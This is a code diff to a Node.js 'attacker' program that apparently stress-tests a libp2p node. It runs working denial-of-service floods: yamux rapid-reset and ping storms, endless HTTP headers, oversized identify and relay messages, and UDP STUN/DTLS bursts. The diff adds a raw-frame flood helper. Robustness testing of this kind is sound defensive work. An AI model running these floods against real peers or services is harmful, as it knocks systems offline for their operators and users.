@@ -1,5 +1,5 @@
-// A hostile peer as a program of its own: `node attacker.mjs '{"attack", "host", "port", "peer", "ms", …}'`. It goes on for
-// `ms` milliseconds and then says in one line of JSON what it got done. It never waits for leave, nor for the end of anything.
+// A hostile peer as a program of its own: `node attacker.mjs '{"attack", "host", "port", "peer", "ms", …}'`. It says when it begins,
+// goes on for `ms` milliseconds, and then says in one line of JSON what it got done. It never waits for leave, nor for the end of anything.
 import { randomBytes } from "node:crypto";
 import { createSocket } from "node:dgram";
 import { connect } from "node:net";
@@ -9,9 +9,15 @@ import * as wire from "./wire.mjs";
 
 const order = JSON.parse(process.argv[2]);
 const { host, port, peer, ms } = order;
-console.log(JSON.stringify({ ready: true }));
-const until = performance.now() + ms;
+let until = performance.now() + 10_000;
 const going = () => performance.now() < until;
+/** Its time begins with the first connection; it says so. */
+function begin() {
+  if (begin.done) return;
+  begin.done = true;
+  until = performance.now() + ms;
+  console.log(JSON.stringify({ begun: true }));
+}
 const pause = (time) => new Promise((resolve) => setTimeout(resolve, time));
 const told = { connections: 0, sent: 0, received: 0, refused: 0 };
 process.on("uncaughtException", () => {});
@@ -22,6 +28,7 @@ function raw(pieces, { stay = true } = {}) {
   return new Promise((resolve) => {
     const socket = connect(port, host, () => {
       told.connections++;
+      begin();
       for (const piece of pieces) {
         told.sent += piece.length;
         socket.write(piece);
@@ -60,6 +67,7 @@ async function peers(count) {
     try {
       const connection = await node.dial(multiaddr(`/ip4/${host}/tcp/${port}/p2p/${peer}`), { signal: AbortSignal.timeout(1500) });
       told.connections++;
+      begin();
       made.push({ node, connection, secured: captured.connection });
     } catch {
       told.refused++;
@@ -69,12 +77,16 @@ async function peers(count) {
   return made;
 }
 /** Writes below the streams, as fast as it is taken; anew after it was thrown out. */
-async function below(make, { count = 4 } = {}) {
+async function below(make, { count = 4, each = Infinity } = {}) {
   while (going()) {
     const all = await peers(count);
     await Promise.all(
       all.map(async ({ connection, secured }) => {
         for (let i = 0; going() && connection.status === "open"; i++) {
+          if (i >= each) {
+            await pause(10); // all of them stay
+            continue;
+          }
           const bytes = make(i);
           told.sent += bytes.length;
           if (!secured.send(bytes)) await Promise.race([secured.onDrain?.().catch(() => {}), pause(50)]);
@@ -86,7 +98,23 @@ async function below(make, { count = 4 } = {}) {
     if (all.length === 0) await pause(50);
   }
 }
-/** Opens streams of a protocol and writes into each. */
+/** The peer's frames by hand: opens streams of a protocol and writes into each, without hearing a word. */
+const flood = (protocol, write, { count = 2, each = 256 } = {}) =>
+  below(
+    (i) => {
+      const hello = Buffer.concat([multistreamHeader, multistream(protocol), write(i)]);
+      const frames = [];
+      // Within the window that a stream has from the start.
+      for (let at = 0; at < Math.min(hello.length, 262_144); at += 65_536) {
+        const piece = hello.subarray(at, Math.min(at + 65_536, 262_144));
+        frames.push(yamuxFrame(yamux.data, at === 0 ? yamux.syn : 0, odd, piece.length, piece));
+      }
+      odd += 2;
+      return Buffer.concat(frames);
+    },
+    { count, each },
+  );
+/** The same as any user does, hearing what comes back. */
 async function streams(protocol, write, { count = 2, each = 256 } = {}) {
   const all = await peers(count);
   while (going()) {
@@ -118,6 +146,7 @@ async function datagrams(make, { sockets = 32, burst = 16 } = {}) {
     socket.on("message", (data) => (told.received += data.length));
     socket.on("error", () => {});
   }
+  begin();
   for (let i = 0; going(); i++) {
     for (const socket of all)
       for (let n = 0; n < burst; n++) {
@@ -190,13 +219,15 @@ const attacks = {
         randomBytes(4096),
       ][i % 5];
     }),
-  /** Streams opened and given up at once, as fast as it goes. */
+  /** Streams opened and given up at once, with a first word and without, as fast as it goes. */
   rapidReset: () =>
-    below(() => {
+    below((n) => {
+      const hello = Buffer.concat([multistreamHeader, multistream("/http/1.1")]);
       const all = [];
       for (let i = 0; i < 50; i++) {
         odd += 2;
-        all.push(yamuxFrame(yamux.window, yamux.syn, odd, 0), yamuxFrame(yamux.window, yamux.rst, odd, 0));
+        all.push(n % 2 ? yamuxFrame(yamux.data, yamux.syn, odd, hello.length, hello) : yamuxFrame(yamux.window, yamux.syn, odd, 0));
+        all.push(yamuxFrame(yamux.window, yamux.rst, odd, 0));
       }
       return Buffer.concat(all);
     }),
@@ -207,7 +238,7 @@ const attacks = {
       return i % 2 ? yamuxFrame(yamux.window, yamux.syn, odd, 0) : Buffer.concat(Array.from({ length: 100 }, () => yamuxFrame(yamux.ping, yamux.syn, 0, i)));
     }),
   /** Heads that never end, on as many streams as there are. */
-  streamHeads: () => streams("/http/1.1", () => Buffer.from(`GET / HTTP/1.1\r\nHost: x\r\nX-Bomb: ${"b".repeat(60_000)}`), { count: 4, each: 512 }),
+  streamHeads: () => flood("/http/1.1", () => Buffer.from(`GET / HTTP/1.1\r\nHost: x\r\nX-Bomb: ${"b".repeat(60_000)}`), { count: 4, each: 512 }),
   /** Guesses and nonces without end. */
   requests: () =>
     streams(
@@ -220,7 +251,7 @@ const attacks = {
     ),
   /** Identify messages of absurd size and number. */
   identify: () =>
-    streams(
+    flood(
       "/ipfs/id/push/1.0.0",
       (i) =>
         [
@@ -229,11 +260,11 @@ const attacks = {
           wire.framed(protocols(50_000)),
           Buffer.concat(Array.from({ length: 2000 }, () => wire.framed(protocols(20)))),
         ][i % 4],
-      { each: 32 },
+      { each: 64 },
     ),
   /** Everything a relay could be talked into. */
   relay: () =>
-    streams(
+    flood(
       "/libp2p/circuit/relay/0.2.0/hop",
       (i) =>
         [
@@ -242,7 +273,7 @@ const attacks = {
           Buffer.concat([wire.varint(2 ** 32), randomBytes(8192)]),
           wire.framed(randomBytes(4096)),
         ][i % 4],
-      { count: 8, each: 64 },
+      { count: 8, each: 512 },
     ),
   /** STUN from everywhere, checks of sessions that are begun and left, DTLS that nobody asked for. */
   udp: () =>
@@ -260,6 +291,9 @@ const attacks = {
     ),
 };
 
-await Promise.race([attacks[order.attack](), pause(ms + 500)]);
+const attack = attacks[order.attack]();
+while (going()) await pause(50);
+begin(); // all were refused
+await Promise.race([attack, pause(500)]);
 console.log(JSON.stringify(told));
 process.exit(0);
